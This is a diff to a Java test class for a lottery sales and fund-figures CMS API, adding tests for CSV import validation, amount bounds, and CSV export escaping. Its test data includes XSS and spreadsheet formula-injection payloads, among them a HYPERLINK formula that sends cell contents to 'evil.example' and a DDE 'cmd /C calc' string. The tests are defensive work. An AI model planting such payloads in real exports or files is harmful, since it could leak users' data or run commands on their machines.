@@ -10,10 +10,13 @@ import static cn.fucai.cms.support.TestData.json;
 import static io.restassured.RestAssured.given;
 import static org.hamcrest.Matchers.containsString;
 import static org.hamcrest.Matchers.equalTo;
+import static org.hamcrest.Matchers.hasItem;
+import static org.hamcrest.Matchers.not;
 import static org.hamcrest.Matchers.hasItems;
 import static org.hamcrest.Matchers.hasSize;
 import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import cn.fucai.cms.support.TestData;
@@ -87,7 +90,7 @@ class FigureImportExportTest {
         admin().contentType("text/csv").body(csv.getBytes(StandardCharsets.UTF_8)).post("/api/v1/sales-figures/batch").then()
                 .statusCode(400)
                 .contentType("application/problem+json")
-                .body("violations.field", hasItems("row 2.regionCode", "row 2.amount.unit", "row 3.periodStart", "row 3.lotteryType"));
+                .body("violations.field", hasItems("row 2, regionCode", "row 2, printedUnit", "row 3, periodStart", "row 3, lotteryType"));
         admin().contentType("text/csv").body("publisher,colour\n" + publisher + ",red\n").post("/api/v1/sales-figures/batch").then()
                 .statusCode(400).body("violations[0].field", equalTo("header")).body("violations[0].message", containsString("colour"));
         admin().contentType("text/csv").body(header + "\n").post("/api/v1/sales-figures/batch").then()
@@ -95,6 +98,93 @@ class FigureImportExportTest {
         admin().contentType("text/csv").body(header + "\n" + publisher + ",330300\n").post("/api/v1/sales-figures/batch").then()
                 .statusCode(400).body("violations[0].field", equalTo("row 1"));
         assertEquals(0, publisherFigures(publisher));
+    }
+
+    @Test
+    void csvRowsPassTheSameValidationAsJsonNamingTheFilesColumnsAndNothingIsWritten() {
+        String publisher = createPublisher();
+        String header = "publisher,regionCode,periodStart,periodEnd,granularity,periodLabel,lotteryType,printedValue,printedUnit,"
+                + "qualifier,sourceUrl,sourceQuote,flow,purposeCode,purposeLabel,projectCount";
+        String good = publisher + ",330300,2019-01-01,2019-12-31,YEAR,2019,welfare,20,万元,exact,https://www.example.org/1,公告,used,elderly,老年人,3";
+        String csv = header + "\n" + good + "\n"
+                + good.replace("https://www.example.org/1", "javascript:alert(document.domain)") + "\n"
+                + good.replace(",2019,welfare", "," + "年".repeat(3000) + ",welfare") + "\n"
+                + good.replace(",elderly,", ",NOT A SLUG <b>,") + "\n"
+                + good.replace(",used,elderly,老年人,3", ",used,elderly,老年人,-1") + "\n"
+                + good.replace(",20,万元,", ",1e-999999999,万元,") + "\n"
+                + good.replace(",20,万元,", ",99999999999999999999,亿元,") + "\n"
+                + good.replace("公告", "福彩\u0001公益") + "\n";
+        admin().contentType("text/csv").body(csv.getBytes(StandardCharsets.UTF_8)).post("/api/v1/fund-figures/batch").then()
+                .statusCode(400)
+                .contentType("application/problem+json")
+                .body("violations.field", hasItems("row 2, sourceUrl", "row 3, periodLabel", "row 4, purposeCode", "row 5, projectCount",
+                        "row 6, printedValue", "row 7, printedValue", "row 8, sourceQuote"))
+                .body("violations.field", not(hasItem("row 1")))
+                .body("violations.find { it.field == 'row 6, printedValue' }.message", containsString("no exponent"))
+                .body("violations.find { it.field == 'row 7, printedValue' }.message", containsString("less than 10^18 yuan"));
+        assertEquals(0, publisherFigures(publisher));
+
+        StringBuilder tooMany = new StringBuilder(header).append('\n');
+        for (int i = 0; i <= 10_000; i++) {
+            tooMany.append(good).append('\n');
+        }
+        admin().contentType("text/csv").body(tooMany.toString().getBytes(StandardCharsets.UTF_8)).post("/api/v1/fund-figures/batch").then()
+                .statusCode(400).body("violations[0].field", equalTo("body")).body("violations[0].message", containsString("10000"));
+        assertEquals(0, publisherFigures(publisher));
+    }
+
+    @Test
+    void csvExportWritesFormulasAsTextKeepsAmountsNumbersAndImportTakesThemBack() {
+        String publisher = createPublisher();
+        Map<String, Object> figure = fund(publisher, "330300", "used", "743.9", "万元");
+        figure.put("gameCategory", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")");
+        figure.put("source", Map.of("url", "https://www.example.org/a", "quote", "@SUM(1+1)*cmd|' /C calc'!A0"));
+        @SuppressWarnings("unchecked")
+        Map<String, Object> fundPart = (Map<String, Object>) figure.get("fund");
+        fundPart.put("purpose", Map.of("code", "elderly", "label", "+1+2"));
+        json().body(List.of(figure)).post("/api/v1/fund-figures/batch").then().statusCode(201);
+
+        String csv = new String(given().accept("text/csv").get("/api/v1/fund-figures?publisher=" + publisher).asByteArray(),
+                StandardCharsets.UTF_8);
+        List<String> cells = List.of(csv.lines().skip(1).findFirst().orElseThrow().split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1));
+        for (String cell : cells) {
+            String unquoted = cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
+            assertFalse(!unquoted.isEmpty() && "=+-@\t\r".indexOf(unquoted.charAt(0)) >= 0, "a formula cell: " + cell);
+        }
+        assertTrue(csv.contains("'=HYPERLINK("), csv);
+        assertTrue(csv.contains("'@SUM(1+1)"), csv);
+        assertTrue(csv.contains(",\"'+1+2\","), csv);
+        assertTrue(csv.contains(",7439000.00,CNY,743.9,万元,"), "amounts stay bare numbers: " + csv);
+
+        String target = createPublisher();
+        admin().contentType("text/csv; charset=UTF-8").body(csv.replace(publisher, target).getBytes(StandardCharsets.UTF_8))
+                .post("/api/v1/fund-figures/batch").then().statusCode(201)
+                .body("[0].gameCategory", equalTo("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"))
+                .body("[0].source.quote", equalTo("@SUM(1+1)*cmd|' /C calc'!A0"))
+                .body("[0].fund.purpose.label", equalTo("+1+2"));
+    }
+
+    @Test
+    void decimalsAreBoundedBeforeAnyArithmeticAndJsonNumbersAreRefused() {
+        String publisher = createPublisher();
+        Map<String, String> bad = Map.of("1e-999999999", "no exponent", "1E+999999999", "no exponent", "12345678901234567890123", "at most 20",
+                "0.12345678901", "10 after", "99999999999", "less than 10^18 yuan");
+        bad.forEach((value, message) -> json().body(sales(publisher, "330300", value, "亿元")).post("/api/v1/sales-figures").then()
+                .statusCode(400).contentType("application/problem+json")
+                .body("violations[0].field", equalTo("amount.value"))
+                .body("violations[0].message", containsString(message))
+                .body("detail", not(containsString("INSERT"))));
+        json().body("{\"publisher\":\"" + publisher + "\",\"regionCode\":\"330300\",\"period\":{\"start\":\"2019-01-01\","
+                        + "\"end\":\"2019-12-31\",\"granularity\":\"YEAR\"},\"lotteryType\":\"welfare\","
+                        + "\"amount\":{\"value\":1e-999999999,\"unit\":\"万元\"},\"qualifier\":\"exact\","
+                        + "\"source\":{\"url\":\"https://www.example.org/1\"}}")
+                .post("/api/v1/sales-figures").then().statusCode(400)
+                .body("violations[0].field", equalTo("amount.value"))
+                .body("violations[0].message", containsString("not a JSON number"));
+        assertEquals(0, publisherFigures(publisher));
+        // the largest amount the column holds is taken
+        json().body(sales(publisher, "330300", "9999999999.9999999999", "亿元")).post("/api/v1/sales-figures").then().statusCode(201)
+                .body("amount.amount", equalTo("999999999999999999.99"));
     }
 
     @Test
@@ -117,12 +207,13 @@ class FigureImportExportTest {
     void tenThousandSmallFiguresSumExactly() {
         String publisher = createPublisher();
         List<Map<String, Object>> rows = new ArrayList<>();
-        LocalDate month = LocalDate.of(1000, 1, 1); // 10,000 months end in 1833, clear of the years other tests use
+        // 2,500 months from 1900 in each of four districts of Wenzhou: clear of the years other tests use
+        List<String> districts = List.of("330302", "330303", "330304", "330305");
         for (int i = 0; i < 10_000; i++) {
-            Map<String, Object> row = sales(publisher, "330300", i % 2 == 0 ? "0.1" : "0.00002", i % 2 == 0 ? "元" : "万元");
+            LocalDate month = LocalDate.of(1900, 1, 1).plusMonths(i / 4);
+            Map<String, Object> row = sales(publisher, districts.get(i % 4), i % 2 == 0 ? "0.1" : "0.00002", i % 2 == 0 ? "元" : "万元");
             row.put("period", period(month.toString(), month.plusMonths(1).minusDays(1).toString(), "MONTH"));
             rows.add(row);
-            month = month.plusMonths(1);
         }
         json().body(rows).post("/api/v1/sales-figures/batch").then().statusCode(201).body("", hasSize(10_000));
         // 5,000 × 0.10 元 + 5,000 × 0.00002 万元 (0.20 元) = 1,500.00 元; doubles would drift off it.
